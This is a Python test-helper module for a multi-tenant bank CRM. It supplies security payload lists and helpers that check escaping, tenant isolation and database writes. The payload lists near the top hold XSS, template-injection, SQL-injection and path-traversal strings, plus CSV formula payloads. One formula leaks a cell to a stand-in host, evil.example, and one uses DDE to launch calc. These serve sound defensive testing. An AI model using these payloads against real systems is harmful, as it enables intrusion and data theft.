"""Reusable security test material: payload lists and generic helpers for every domain's tests.

Payloads
- ``XSS_PAYLOADS``: the 10 stored-XSS payloads of SECURITY.md IV-2; use ``assert_rendered_escaped(html, payload)``.
- ``FORMULA_PAYLOADS``: the 11 CSV/XLSX payloads of EX-1/EX-2.
- ``LIKE_PAYLOADS``: search terms that must match literally (IV-3).
- ``BAD_IDS``: the 9 bad object ids of AC-4.
- ``MASS_ASSIGNMENT_FIELDS``: extra form fields that must never change a row (AC-5).

Helpers
- ``assert_looks_missing(client, other_tenant_url, missing_url)``: AC-3, another bank's record answers exactly
  like a missing one (404, same body once CSRF tokens and timestamps are blanked).
- ``WriteSpy(engine)``: records every INSERT/UPDATE/DELETE that gets *committed* (a rolled-back write is not a write).
- ``rules(app)``, ``sample_url(rule, values)``, ``parse_forms(html)``: route discovery for generic walks.
- ``TenantRows``: one row of every ``@tenant_model`` owned by a given bank (for isolation tests).

Example in a domain test::

    from tests.security_payloads import XSS_PAYLOADS, assert_rendered_escaped

    @pytest.mark.parametrize("payload", XSS_PAYLOADS)
    def test_visit_summary_is_escaped(client, login_as, world, payload):
        ...  # save a visit whose summary is `payload`, GET its page
        assert_rendered_escaped(resp.get_data(as_text=True), payload)
"""
from __future__ import annotations

import itertools
import re
from dataclasses import dataclass, field
from datetime import date
from html import unescape
from html.parser import HTMLParser
from typing import Callable, Iterable, Optional

import sqlalchemy as sa
from sqlalchemy import event

# -- payloads --------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "{{7*7}}",
    "{{ config }}",
    "&lt;b&gt;",
    "\u202egnp.exe",
    "javascript:alert(1)",
]

FORMULA_PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\0=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")', "=cmd|' /C calc'!A0",
    'say "hi"', "a,b", "line1\nline2",
]

LIKE_PAYLOADS = ["%", "_", "\\", "' OR '1'='1"]

BAD_IDS = ["0", "-1", str(2**63), "abc", "1%20OR%201=1", "1;", "9999999", "1.5", "0x10"]

MASS_ASSIGNMENT_FIELDS = {
    "bank_id": "999999", "owner_id": "1", "role": "admin", "version": "999", "version_id": "999",
    "created_by": "1", "created_by_id": "1", "is_active": "y", "id": "999999", "org_id": "1",
}

#: generic bad input for forms and query strings (hypothesis adds generated text on top)
BAD_STRINGS = [
    "", " ", "\x00", "a\x00b", "-1", "-999999999999", "0", "1e309", "NaN", "abc", "2026-02-30", "2026-13-01",
    "9999-99-99", "0000-00-00", "31/12/2026", "１２３", "１３８００１３８０００", "\u202e", "\ud7ff", "𠀀" * 10,
    "' OR 1=1 --", "%", "_", "../../etc/passwd", "a" * 5000, "9" * 40, "<b>x</b>", "{{7*7}}", "\r\n", "true",
]


def assert_rendered_escaped(html: str, payload: str) -> None:
    """The payload appears only in escaped form: no live tag, attribute, template evaluation or link."""
    if "<" in payload or ">" in payload:
        assert payload not in html, f"unescaped payload in page: {payload!r}"
    if payload.startswith("'") or payload.startswith('"'):
        assert payload not in html, f"unescaped quote payload in page: {payload!r}"
    if payload == "{{7*7}}":
        assert "49" not in re.sub(r"\d{3,}", "", html.replace("{{7*7}}", "")), "template expression was evaluated"
    if payload == "{{ config }}":
        assert "SECRET_KEY" not in html and "<Config" not in html
    if payload == "&lt;b&gt;":
        assert "<b>" not in html, "escaped entity was double-decoded"
    if payload.startswith("javascript:"):
        assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", html, re.I)
    for tag in _live_tags(html):
        assert not (tag[0] == "script" and not tag[1].get("src") and tag[1].get("type") != "application/json"), (
            "inline <script> in the page")
        assert not any(k.startswith("on") for k in tag[1]), f"event-handler attribute on <{tag[0]}>"


# -- HTML ------------------------------------------------------------------------------------------


class _TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, Optional[str]]]] = []
        self.script_bodies: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        # a JSON data island (type=application/json, filled with |tojson) is data, not code: the CSP allows it
        self._in_script = tag == "script" and (dict(attrs).get("type") or "").lower() != "application/json"

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.script_bodies.append(data)


def _live_tags(html: str) -> list[tuple[str, dict]]:
    p = _TagCollector()
    p.feed(html)
    return p.tags


def inline_code(html: str) -> list[str]:
    """Every inline script, event-handler attribute, style attribute or javascript: URL in a page."""
    p = _TagCollector()
    p.feed(html)
    problems = []
    for tag, attrs in p.tags:
        if tag == "script" and not attrs.get("src") and (attrs.get("type") or "").lower() != "application/json":
            problems.append("<script> without src")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=...>")
            if name == "style":
                problems.append(f"<{tag} style=...>")
            if name in ("href", "src", "action", "formaction") and value and value.strip().lower().startswith(
                    "javascript:"):
                problems.append(f"<{tag} {name}=javascript:...>")
    if p.script_bodies:
        problems.append("script body text")
    return problems


@dataclass
class HtmlForm:
    action: Optional[str]
    method: str
    enctype: str
    fields: dict[str, list[str]] = field(default_factory=dict)  # name -> example values (options, defaults)
    kinds: dict[str, str] = field(default_factory=dict)  # name -> input type / select / textarea
    current: list[tuple[str, str]] = field(default_factory=list)  # what a browser would submit as the page stands


class _FormParser(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[HtmlForm] = []
        self._select: Optional[str] = None
        self._textarea: Optional[str] = None
        self._first_option: Optional[str] = None
        self._selected = False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self.forms.append(HtmlForm(a.get("action"), (a.get("method") or "get").lower(),
                                       a.get("enctype") or "application/x-www-form-urlencoded"))
            return
        if not self.forms:
            return
        form = self.forms[-1]
        name = a.get("name")
        if tag == "input" and name:
            kind = (a.get("type") or "text").lower()
            form.kinds.setdefault(name, kind)
            if kind == "file":
                form.enctype = "multipart/form-data"
            form.fields.setdefault(name, []).append(a.get("value") or "")
            if kind in ("checkbox", "radio"):
                if "checked" in a:
                    form.current.append((name, a.get("value") or "y"))
            elif kind not in ("submit", "button", "file", "image", "reset"):
                form.current.append((name, a.get("value") or ""))
        elif tag == "textarea" and name:
            form.kinds.setdefault(name, "textarea")
            form.fields.setdefault(name, []).append("")
            self._textarea = name
            form.current.append((name, ""))
        elif tag == "select" and name:
            form.kinds.setdefault(name, "select")
            form.fields.setdefault(name, [])
            self._select, self._first_option, self._selected = name, None, "multiple" in a
        elif tag == "option" and self._select:
            value = a.get("value") or ""
            form.fields[self._select].append(value)
            if self._first_option is None:
                self._first_option = value
            if "selected" in a:
                form.current.append((self._select, value))
                self._selected = True

    def handle_data(self, data):
        if self._textarea and self.forms:
            name, value = self.forms[-1].current[-1]
            self.forms[-1].current[-1] = (name, value + data)

    def handle_endtag(self, tag):
        if tag == "select" and self._select:
            if not self._selected and self._first_option is not None and self.forms:
                self.forms[-1].current.append((self._select, self._first_option))
            self._select = None
        elif tag == "textarea":
            self._textarea = None


def parse_forms(html: str) -> list[HtmlForm]:
    """Every <form> of a page with its input, select and textarea names (no JavaScript needed)."""
    p = _FormParser()
    p.feed(html)
    return p.forms


_CSRF_RE = re.compile(r'(name="csrf_token"[^>]*value=")[^"]*(")|(value=")[^"]*("[^>]*name="csrf_token")')


def normalise_body(body: str) -> str:
    """A page with its per-request parts (CSRF tokens, nonces, incident ids) blanked, for comparisons."""
    body = _CSRF_RE.sub(lambda m: (m.group(1) or m.group(3)) + "X" + (m.group(2) or m.group(4)), body)
    body = re.sub(r'nonce="[^"]*"', 'nonce="X"', body)
    return body


def assert_looks_missing(client, other_tenant_url: str, missing_url: str, method: str = "GET") -> None:
    """AC-3: another bank's record is a 404 with the same page as a record that does not exist."""
    other = client.open(other_tenant_url, method=method)
    missing = client.open(missing_url, method=method)
    assert other.status_code == 404, f"{other_tenant_url}: {other.status_code}, expected 404 like a missing record"
    assert missing.status_code == 404, f"{missing_url}: {missing.status_code}"
    other_body = normalise_body(other.get_data(as_text=True)).replace(other_tenant_url, "{URL}")
    missing_body = normalise_body(missing.get_data(as_text=True)).replace(missing_url, "{URL}")
    assert other_body == missing_body, f"{other_tenant_url} and {missing_url} give different 404 pages"
    assert other.headers.get("Content-Type") == missing.headers.get("Content-Type")


# -- writes ----------------------------------------------------------------------------------------

_DML = re.compile(r"^\s*(INSERT|UPDATE|DELETE|REPLACE)\b(?:\s+OR\s+\w+)?\s+(?:INTO\s+|FROM\s+)?\"?(\w+)", re.I)


class WriteSpy:
    """Records committed writes on an engine as (verb, table); rolled-back writes are dropped.

    with WriteSpy(db.engine) as spy:
        client.post(...)
    assert spy.committed(ignore={"audit_entry"}) == []
    """

    def __init__(self, engine):
        self.engine = engine
        self._pending: dict[int, list[tuple[str, str]]] = {}
        self.writes: list[tuple[str, str]] = []

    def _before(self, conn, cursor, statement, parameters, context, executemany):
        m = _DML.match(statement)
        if m:
            self._pending.setdefault(id(conn), []).append((m.group(1).upper(), m.group(2).lower()))

    def _commit(self, conn):
        self.writes.extend(self._pending.pop(id(conn), []))

    def _rollback(self, conn):
        self._pending.pop(id(conn), None)

    def __enter__(self):
        event.listen(self.engine, "before_cursor_execute", self._before)
        event.listen(self.engine, "commit", self._commit)
        event.listen(self.engine, "rollback", self._rollback)
        return self

    def __exit__(self, *exc):
        event.remove(self.engine, "before_cursor_execute", self._before)
        event.remove(self.engine, "commit", self._commit)
        event.remove(self.engine, "rollback", self._rollback)

    #: tables that hold no record, only a cache any reader may fill (the dashboard's shared snapshots)
    CACHES = frozenset({"dashboard_snapshot"})

    def committed(self, ignore: Iterable[str] = ()) -> list[tuple[str, str]]:
        """Committed writes to record tables (caches are never records), less the tables in ``ignore``."""
        skip = set(ignore) | self.CACHES
        return [w for w in self.writes if w[1] not in skip]

    def reset(self) -> None:
        self.writes.clear()
        self._pending.clear()


# -- routes ----------------------------------------------------------------------------------------

SKIP_METHODS = {"HEAD", "OPTIONS"}


def rules(app):
    """Every URL rule, sorted, as (rule, endpoint, methods without HEAD/OPTIONS)."""
    out = []
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: (r.rule, r.endpoint)):
        out.append((rule, rule.endpoint, sorted((rule.methods or set()) - SKIP_METHODS)))
    return out


def blueprint_of(endpoint: str) -> str:
    return endpoint.split(".", 1)[0] if "." in endpoint else ""


def converter_kinds(rule) -> dict[str, str]:
    return {name: type(conv).__name__ for name, conv in rule._converters.items()}


def sample_value(rule, name: str, ids: Optional[dict[str, object]] = None):
    """A value for a URL parameter: an id from ``ids`` when given, else a well-typed placeholder."""
    if ids and name in ids:
        return ids[name]
    conv = rule._converters.get(name)
    kind = type(conv).__name__
    if kind == "IntegerConverter":
        return 1
    if kind == "FloatConverter":
        return 1.0
    if kind == "UUIDConverter":
        import uuid

        return uuid.UUID(int=1)
    if kind == "AnyConverter":
        return sorted(conv.items)[0]
    return "x"


def sample_url(rule, ids: Optional[dict[str, object]] = None) -> str:
    values = {name: sample_value(rule, name, ids) for name in rule.arguments}
    values.update({k: v for k, v in (rule.defaults or {}).items() if k not in values})
    return rule.build(values, append_unknown=False)[1]


# -- tenant rows -----------------------------------------------------------------------------------

_seq = itertools.count(9000)


def _first_code(model) -> str:
    from crm.extensions import db

    return db.session.scalar(sa.select(model.code).order_by(model.code).limit(1))


def _build_firm_account(t: "TenantRows"):
    from tests import factories

    return factories.account(t.firm, t.bank, t.rm)


def _build_contact(t):
    from tests import factories

    return factories.contact(t.firm, t.bank, name="租户联系人", mobile="13912345678")


def _build_visit(t):
    from tests import factories

    return factories.visit(t.firm, t.rm, t.campaign)


def _build_follow_up(t):
    from tests import factories

    return factories.follow_up(t.firm, t.rm, date(2026, 3, 9))


def _build_event(t):
    from crm.events.models import Event, EventKind

    return Event(code=f"EV-T{next(_seq)}", campaign=t.campaign, title="租户活动", kind=EventKind.BANK,
                 held_on=date(2026, 5, 20), organisers=[t.bank])


def _build_registration(t):
    from crm.events.models import Registration, RegistrationSource

    return Registration(event=t.row("event"), firm=t.firm, person_name="报名人", mobile="13987654321",
                        source=list(RegistrationSource)[0])


def _build_pool(t):
    from crm.credit.models import SecuritisationPool

    return SecuritisationPool(bank_id=t.bank.id, name=f"池{next(_seq)}", exchange="深交所")


def _build_application(t):
    from crm.core.models import CreditProduct
    from crm.credit.models import CreditApplication

    return CreditApplication(bank_id=t.bank.id, rm_id=t.rm.id, campaign_id=t.campaign.id, firm_id=t.firm.id,
                             product_code=_first_code(CreditProduct), requested_fen=100_000_00,
                             accepted_on=date(2026, 3, 2))


def _build_stage_change(t):
    from crm.credit.models import Stage, StageChange

    return StageChange(application=t.row("credit_application"), bank_id=t.bank.id, to_stage=list(Stage)[0],
                       changed_on=date(2026, 3, 2))


def _ip_asset():
    from crm.credit.models import IpAsset, PatentKind

    n = next(_seq)
    asset = IpAsset(patent_no=f"2025{n:08d}"[:12] + ".X", kind=list(PatentKind)[0], title="专利")
    return asset


def _build_pledge(t):
    from crm.credit.models import OwnerRelation, Pledge

    return Pledge(bank_id=t.bank.id, application=t.row("credit_application"), ip_asset=_ip_asset(),
                  owner_relation=list(OwnerRelation)[0])


def _build_valuation(t):
    from crm.credit.models import Valuation

    return Valuation(bank_id=t.bank.id, application=t.row("credit_application"), valuer="评估所",
                     requested_on=date(2026, 3, 3))


def _build_audit_entry(t):
    from crm.core.models import AuditEntry

    return AuditEntry(bank_id=t.bank.id, action="test.tenant", object_type="test")


#: how to make one row of each bank-owned table; a new @tenant_model needs an entry here
TENANT_BUILDERS: dict[str, Callable[["TenantRows"], object]] = {
    "audit_entry": _build_audit_entry,
    "firm_account": _build_firm_account,
    "contact": _build_contact,
    "visit": _build_visit,
    "follow_up": _build_follow_up,
    "event": _build_event,
    "registration": _build_registration,
    "securitisation_pool": _build_pool,
    "credit_application": _build_application,
    "stage_change": _build_stage_change,
    "pledge": _build_pledge,
    "valuation": _build_valuation,
}


class TenantRows:
    """One row of every ``@tenant_model`` owned by ``bank`` (created under the system scope, flushed)."""

    def __init__(self, bank, rm, campaign, firm):
        self.bank, self.rm, self.campaign, self.firm = bank, rm, campaign, firm
        self.rows: dict[str, object] = {}

    def row(self, table: str):
        if table not in self.rows:
            from crm.extensions import db

            builder = TENANT_BUILDERS.get(table)
            if builder is None:
                raise KeyError(f"no builder for tenant table {table!r}: add one to tests/security_payloads.py")
            obj = builder(self)
            db.session.add(obj)
            db.session.flush()
            self.rows[table] = obj
        return self.rows[table]

    def build_all(self) -> "TenantRows":
        from crm.core.scoping import tenant_models

        for model in tenant_models():
            self.row(model.__tablename__)
        return self

    def ids(self) -> dict[str, int]:
        return {name: obj.id for name, obj in self.rows.items()}


# -- collection-time inventory ------------------------------------------------------------------------

_COLLECTION_APP = None


def collection_app():
    """An app built once at collection time (no database touched) to parametrize tests over its routes."""
    global _COLLECTION_APP
    if _COLLECTION_APP is None:
        from tests.conftest import make_app

        _COLLECTION_APP = make_app("sqlite://")
    return _COLLECTION_APP


def find_rule(app, path: str, endpoint: str):
    for rule in app.url_map.iter_rules():
        if rule.rule == path and rule.endpoint == endpoint:
            return rule
    raise LookupError(f"{endpoint} {path} is not in this app's url_map")


#: URL parameter names that identify a row of a bank-owned table (for AC-3 walks)
PARAM_TABLES = {
    "visit_id": "visit", "follow_up_id": "follow_up", "followup_id": "follow_up", "contact_id": "contact",
    "event_id": "event", "registration_id": "registration", "reg_id": "registration",
    "application_id": "credit_application", "credit_application_id": "credit_application", "app_id": "credit_application",
    "pledge_id": "pledge", "valuation_id": "valuation", "pool_id": "securitisation_pool",
    "account_id": "firm_account", "firm_account_id": "firm_account", "stage_change_id": "stage_change",
}
#: what a bare ``id`` means in each blueprint (shared tables such as firms are not listed)
BLUEPRINT_ID_TABLES = {"visits": "visit", "events": "event", "credit": "credit_application"}


def tenant_params(rule) -> dict[str, str]:
    """URL parameters of a rule that name a bank-owned row, mapped to their table."""
    out = {}
    for name in rule.arguments:
        if type(rule._converters.get(name)).__name__ != "IntegerConverter":
            continue
        if name in PARAM_TABLES:
            out[name] = PARAM_TABLES[name]
        elif name == "id" and blueprint_of(rule.endpoint) in BLUEPRINT_ID_TABLES:
            out[name] = BLUEPRINT_ID_TABLES[blueprint_of(rule.endpoint)]
    return out


def csrf_token_in(html: str) -> Optional[str]:
    """The first CSRF token of a page (hidden input named csrf_token, in any attribute order)."""
    for form in parse_forms(html):
        values = form.fields.get("csrf_token")
        if values and values[0]:
            return values[0]
    return None


# -- module-scoped apps for walks --------------------------------------------------------------------------


class SharedApp:
    """One migrated database, app and World for a whole test module (walks that write nothing)."""

    def __init__(self, app, world, url):
        self.app, self.world, self.url = app, world, url
        self._clients: dict[str, object] = {}

    def client_for(self, username: Optional[str]):
        """A client signed in as ``username`` (None: anonymous), made once per module."""
        key = username or ""
        if key not in self._clients:
            client = self.app.test_client()
            if username:
                from tests.conftest import TEST_PASSWORD

                if self.app.config.get("WTF_CSRF_ENABLED"):
                    token = csrf_token_in(client.get("/login").get_data(as_text=True))
                    resp = client.post("/login", data={"username": username, "password": TEST_PASSWORD,
                                                       "csrf_token": token})
                else:
                    resp = client.post("/login", data={"username": username, "password": TEST_PASSWORD})
                assert resp.status_code == 302, f"sign-in of {username} failed: {resp.status_code}"
            self._clients[key] = client
        return self._clients[key]


def shared_app(databases, tmp_path_factory, **overrides):
    """Generator for a module-scoped fixture: ``yield from shared_app(databases, tmp_path_factory)``."""
    from crm.extensions import db
    from tests import factories
    from tests.conftest import make_app

    url = databases.new(tmp_path_factory.mktemp("shared"))
    app = make_app(url, **overrides)
    try:
        with app.app_context():
            world = factories.World.build()
            db.session.commit()
            yield SharedApp(app, world, url)
            db.session.remove()
            db.engine.dispose()
    finally:
        databases.drop(url)


# -- one test, both database engines ---------------------------------------------------------------------------

DB_ENGINES = ["sqlite", "postgresql"]
_template_seq = itertools.count(1)


class EngineDatabases:
    """Migrated databases of one engine for tests that must run on SQLite *and* PostgreSQL in the same run."""

    def __init__(self, kind: str, tmp_path_factory, pg_server=None):
        import os as _os

        from tests.conftest import _migrate

        self.kind = kind
        self.server = pg_server
        if kind == "sqlite":
            self.template = tmp_path_factory.mktemp("sec-template") / "template.sqlite3"
            _migrate(f"sqlite:///{self.template}")
        else:
            self.template_name = f"crm_sec_tpl_{_os.getpid()}_{next(_template_seq)}"
            _migrate(pg_server.create_database(self.template_name))
        self._seq = itertools.count(1)

    def new(self, tmp_path) -> str:
        import os as _os
        import shutil

        n = next(self._seq)
        if self.kind == "sqlite":
            path = tmp_path / f"sec-{n}.sqlite3"
            shutil.copy(self.template, path)
            return f"sqlite:///{path}"
        import psycopg

        name = f"{self.template_name}_db{n}"
        with psycopg.connect(self.server.dsn, autocommit=True) as conn:
            conn.execute(f'CREATE DATABASE "{name}" TEMPLATE "{self.template_name}"')
        return self.server.url_for(name)

    def drop(self, url: str) -> None:
        if self.kind == "postgresql":
            self.server.drop_database(url.rsplit("/", 1)[1])


def engine_app(request, tmp_path, cache: dict, **overrides):
    """Generator behind an ``any_app`` fixture parametrized over DB_ENGINES (see tests/test_audit.py)."""
    import os as _os

    import pytest as _pytest

    from crm.extensions import db
    from tests.conftest import make_app

    kind = request.param
    if _os.environ.get("CRM_TEST_DB") == "postgres":
        _pytest.skip("runs both engines in the default run (SQLite suite) already")
    if kind not in cache:
        server = request.getfixturevalue("pg_server") if kind == "postgresql" else None
        cache[kind] = EngineDatabases(kind, request.getfixturevalue("tmp_path_factory"), server)
    dbs = cache[kind]
    url = dbs.new(tmp_path)
    app = make_app(url, **overrides)
    try:
        with app.app_context():
            yield app
            db.session.remove()
            db.engine.dispose()
    finally:
        dbs.drop(url)


# -- walking every form with generated input (tests/test_fuzz_*.py) ---------------------------------------------

#: URL parameters that are not bank-owned rows but need a real value to reach the page
EXTRA_PARAM_TABLES = {"fu_id": "follow_up"}
NAMED_VALUES = {"kind": "svg", "fmt": "csv", "code": "en", "stage": "under_review", "ledger": "visits"}


def own_url_ids(shared) -> dict[str, object]:
    """URL parameter values that reach real rows of bank A (the fuzzing users' own bank)."""
    ids: dict[str, object] = {}
    for name, table in {**PARAM_TABLES, **EXTRA_PARAM_TABLES}.items():
        if table in shared.own.rows:
            ids[name] = shared.own.rows[table].id
    ids["firm_id"] = shared.world.firm.id
    ids["user_id"] = shared.world.rm_a2.id
    ids.update(NAMED_VALUES)
    return ids


def fuzz_url(rule, shared) -> str:
    ids = dict(own_url_ids(shared))
    if "token" in rule.arguments:
        if rule.endpoint.endswith("public_register"):
            ids["token"] = shared.own.rows["event"].public_token or "x"
        else:
            ids["token"] = shared.own.rows["registration"].checkin_token
    return sample_url(rule, ids)


def fuzz_world(databases, tmp_path_factory):
    """Module fixture body: the World, a published bank-A event and one bank-A row of every bank-owned table."""
    from crm.extensions import db

    for shared in shared_app(databases, tmp_path_factory):
        w = shared.world
        shared.own = TenantRows(w.bank_a, w.rm_a, w.campaign, w.firm).build_all()
        shared.own.rows["event"].public_token = "fuzz-public-token-0001"
        db.session.commit()
        yield shared


#: HTTP statuses that mean "refused": such a request must not have written anything (but the audit trail)
REFUSED = {400, 403, 404, 405, 409, 413, 422, 429}


def is_refused(resp) -> bool:
    if resp.status_code in REFUSED:
        return True
    if resp.status_code == 200 and resp.mimetype == "text/html":
        return "is-invalid" in resp.get_data(as_text=True)
    return False
